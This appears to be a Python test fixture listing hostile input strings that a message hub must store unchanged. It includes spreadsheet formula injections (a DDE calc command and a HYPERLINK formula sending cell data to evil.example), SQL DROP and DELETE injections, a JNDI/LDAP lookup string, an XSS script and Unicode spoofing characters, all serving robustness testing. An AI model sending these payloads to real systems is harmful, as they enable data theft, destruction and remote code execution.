"""Hostile but valid values a careless or malicious sender may put in any text
field: spreadsheet formulas, SQL and template injections, direction and
zero-width characters, scripts. The hub must store them verbatim and refuse
nothing for them (escaping is each exporter's job); the tests of the parsers
and of the Odoo entry points send the same list."""

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1)",
    "@x",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'; DROP TABLE res_partner; --",
    "Robert'); DELETE FROM fih_message WHERE ('1'='1",
    "1 OR 1=1",
    '" OR ""="',
    "%(name)s %s {0} ${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "\u202eevil.exe\u202cfdp.txt",  # right-to-left override
    "Acme\u200b\u200c\u200d\ufeffLtd",  # zero-width characters
    "\u05e9\u05dc\u05d5\u05dd Ltd",  # Hebrew
    "\U0001f4a9 Ltd",
    "Ａｃｍｅ",  # full-width
    "Ltd\u0301\u0301\u0301",  # combining marks
    "\u05e9\u05dc\u05d5\u05dd \u0634\u0631\u0643\u0629 Ltd",  # Hebrew, Arabic
]
INJECTED_EMAILS = [
    "=1+2@evil.example",
    "+sum(1)@evil.example",
    "-2+3@evil.example",
    "'or'1'='1@evil.example",
]
